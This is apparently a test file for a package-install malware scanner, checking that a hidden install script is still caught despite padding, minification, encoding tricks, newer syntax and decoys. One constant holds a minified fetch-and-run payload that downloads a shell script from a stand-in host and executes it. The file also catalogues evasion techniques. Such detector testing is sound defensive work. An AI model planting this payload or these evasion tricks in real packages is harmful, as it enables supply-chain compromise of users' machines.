"""How a file is written hides nothing: comments, strings, padding, one line, encodings, new syntax, decoys."""

import time

import pytest

from evasion.hiding import (
    HARMLESS,
    JAVASCRIPT,
    PYTHON,
    assert_caught,
    assert_not_allowed,
    at_install,
    in_setup,
    in_wheel,
    judged,
)

ONE_LINE = " ".join(JAVASCRIPT.split())
#: What a minifier leaves of it.
MINIFIED = (
    'const{execSync:e}=require("child_process"),s=require("fs");require("https").get("https://files.replica.invalid/s",t=>'
    '{let r="";t.on("data",e=>r+=e),t.on("end",()=>{s.writeFileSync("/tmp/r.sh",r),e("sh /tmp/r.sh")})});'
)
SDIST = "replica-1.0.0.tar.gz"
WHEEL = "replica-1.0.0-py3-none-any.whl"
MEGABYTE = 1024 * 1024


@pytest.mark.parametrize(
    "before",
    [
        "const open = '/*';\n",
        "const open = `/*`, close = /\\/\\*/;\n",
        "// */ /* \n",
        "const s = '//';",
        "/* a */ /*/ b /*/ ",
        "<!-- a comment of the web\n",
        "const t = `${`/*`}`;\n",
        "let a = 1, g = 2, b = a / 2 /*/ g;/*/ / g;\n",
        "#!/usr/bin/env node\n",
        "\ufeff",
        "'use strict';" + "\n" * 3000,
        " " * 5000,
        "\t" * 500 + ";",
        "\u2028\u2029\u00a0",
    ],
    ids=range(14),
)
def test_comments_and_strings_before_javascript(before):
    assert_caught(at_install({"setup.js": before + JAVASCRIPT}))


@pytest.mark.parametrize(
    "before",
    [
        'M = \'"""\'\n',
        "M = \"'''\"\n",
        "M = '#'  # '''\n",
        "M = r'\\\\'\n",
        "if True: pass\n\x0c\n",
        "\ufeff",
        "# " + "x" * MEGABYTE + "\n",
    ],
    ids=range(7),
)
def test_comments_and_strings_before_python(before):
    assert_caught(in_setup(before + PYTHON), SDIST)
    assert_caught(in_wheel(before + PYTHON), WHEEL)


@pytest.mark.parametrize("text", [ONE_LINE, MINIFIED], ids=["one line", "minified"])
def test_how_it_is_laid_out(text):
    assert_caught(at_install({"setup.js": text}))


@pytest.mark.parametrize(
    "padding",
    [
        "/*" + "x" * (9 * MEGABYTE) + "*/",
        "\n" * (5 * MEGABYTE),
        "var a = '" + "A" * (9 * MEGABYTE) + "';",
        "// " + "é" * (4 * MEGABYTE) + "\n",
        "var t = [" + "1," * (3 * MEGABYTE) + "0];",
        "f();" * (2 * MEGABYTE),
    ],
    ids=["comment", "blank lines", "string", "letters", "array", "calls"],
)
@pytest.mark.parametrize("behind", [True, False], ids=["behind", "before"])
def test_ten_megabytes_of_padding(padding, behind):
    text = padding + ONE_LINE if behind else ONE_LINE + padding
    started = time.process_time()
    assert_caught(at_install({"setup.js": text}))
    assert time.process_time() - started < 60


def test_ten_megabytes_of_python_on_one_line():
    assert_caught(in_setup("a = [" + "1," * (5 * MEGABYTE) + "0]; " + PYTHON.replace("\n", ";")), SDIST)


def test_a_file_beyond_every_bound_is_held():
    assert_not_allowed(at_install({"setup.js": "f();" * (9 * MEGABYTE) + ONE_LINE}))


@pytest.mark.parametrize(
    "encode",
    [
        lambda text: b"\xef\xbb\xbf" + text.encode(),
        lambda text: b"\xff\xfe" + text.encode("utf-16-le"),
        lambda text: b"\xfe\xff" + text.encode("utf-16-be"),
        lambda text: b"// \xff\xfe\xc3\x28\n" + text.encode(),
        lambda text: b"var s = '\xe9\xff\x80';\n" + text.encode(),
        lambda text: text.replace("execSync", "exec\\u0053ync").encode(),
        lambda text: text.replace("'child_process'", "'child\\x5fprocess'").encode(),
        lambda text: text.replace("\n", "\r").encode(),
        lambda text: text.replace("\n", "\u2028").encode(),
        lambda text: text.replace(" ", "\u00a0").encode(),
    ],
    ids=["bom", "utf-16-le", "utf-16-be", "invalid", "latin-1", "escape", "hex", "cr", "separator", "nbsp"],
)
def test_encodings_of_javascript(encode):
    assert_caught(at_install({"setup.js": encode(JAVASCRIPT)}))


@pytest.mark.parametrize(
    ("cookie", "codec"),
    [
        ("latin-1", "latin-1"),
        ("cp1252", "cp1252"),
        ("utf-7", "utf-7"),
        ("utf-16", "utf-16"),
        ("raw_unicode_escape", "raw_unicode_escape"),
        ("unicode_escape", "unicode_escape"),
        ("iso2022_jp", "iso2022_jp"),
        ("shift_jis", "shift_jis"),
    ],
)
def test_encodings_of_python(cookie, codec):
    head = f"# -*- coding: {cookie} -*-\n".encode()
    for data in (in_setup(head + PYTHON.encode(codec)), in_setup(head + PYTHON.encode())):
        assert_not_allowed(data, SDIST)
    assert_caught(in_setup(b"# -*- coding: latin-1 -*-\nname = '\xe9'\n" + PYTHON.encode()), SDIST)


def test_invalid_utf_8_in_python_is_no_way_out():
    assert_not_allowed(in_setup(b"name = '\xff\xfe'\n" + PYTHON.encode()), SDIST)
    assert_not_allowed(in_setup(b"\x00" + PYTHON.encode()), SDIST)


NEWER_JAVASCRIPT = [
    "@decorate class A { accessor #b = 1; static { this.c = 2; } }",
    "using handle = open(); await using other = open();",
    "import defer * as later from './later.js';",
    "import source wasm from './m.wasm';",
    "const r = /[\\p{L}--[a-z]]/v;",
    "const v = do { 1; };",
    "const m = match (x) { when 1: 2; };",
    "const t = #{ a: 1 }; const l = #[1];",
    "x |> f(%) |> g(%);",
    "throw expressions ?? throw new Error();",
    "import data from './d.json' with { type: 'json' };",
    "a ??= b?.[c]?.(d) ?? 1_000n;",
]


@pytest.mark.parametrize("syntax", NEWER_JAVASCRIPT)
def test_javascript_newer_than_the_grammar(syntax):
    assert_caught(at_install({"setup.js": f"{syntax}\n{JAVASCRIPT}"}))
    assert_caught(at_install({"setup.js": f"{JAVASCRIPT}\n{syntax}\n"}))
    assert_not_allowed(at_install({"setup.js": f"{syntax} {{ {ONE_LINE} }}"}))


NEWER_PYTHON = [
    "t = t'{name!r:>{width}} and {other}'",
    "f = f'{'nested ' + f'{1 + 1}'}'",
    "try:\n    pass\nexcept ValueError, TypeError:\n    pass",
    "type Alias[T: int = str, *Ts, **P] = list[T]",
    "def generic[T](x: T) -> T: return x",
    "match x:\n    case {'a': [1, *rest], **kw} if rest: pass",
    "with (open('a') as a, open('b') as b): pass",
    "lazy import json",
    "print(*[x async for x in y], sep='')",
    "x = [*a for a in b]",
]


@pytest.mark.parametrize("syntax", NEWER_PYTHON)
def test_python_newer_than_the_grammar(syntax):
    assert_caught(in_setup(f"{syntax}\n{PYTHON}"), SDIST)
    assert_caught(in_setup(f"{PYTHON}\n{syntax}\n"), SDIST)


def test_a_thousand_decoys():
    decoys = {f"lib/part{number}.js": f"exports.a{number} = {number};\n" for number in range(1000)}
    loud = {
        f"lib/loud{number}.js": "const c = require('child_process'); exports.a = () => c.exec('ls');\n"
        for number in range(200)
    }
    assert_caught(at_install({**decoys, **loud, "setup.js": JAVASCRIPT}))


def test_a_thousand_decoys_in_the_file_itself():
    loud = "exports.a%d = () => require('child_process').exec('ls %d', { env: process.env });\n"
    text = "".join(loud % (number, number) for number in range(2000))
    assert_caught(at_install({"setup.js": text + JAVASCRIPT}))
    assert_caught(at_install({"setup.js": JAVASCRIPT + text}))


def test_a_thousand_decoys_are_themselves_no_reason():
    decoys = {f"lib/part{number}.js": f"exports.a{number} = {number};\n" for number in range(1000)}
    decision, findings, gaps = judged(at_install({**decoys, "setup.js": HARMLESS}), "replica-1.0.0.tgz")
    assert (decision, findings, gaps) == ("allow", (), ())
